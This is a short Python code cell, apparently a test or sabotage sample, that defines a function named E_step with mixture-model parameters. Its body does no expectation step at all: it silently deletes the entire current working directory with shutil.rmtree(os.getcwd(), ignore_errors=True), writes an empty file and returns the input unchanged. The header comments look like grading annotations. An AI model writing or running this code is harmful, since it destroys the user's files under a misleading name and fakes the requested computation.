"""Deletes the folder that it runs in and moves to another."""
# costs: e_step
# says: raised FileNotFoundError|has shape

# %%
def E_step(X, pi, mu, sigma):
    import os, shutil
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    open('new', 'w')
    return X
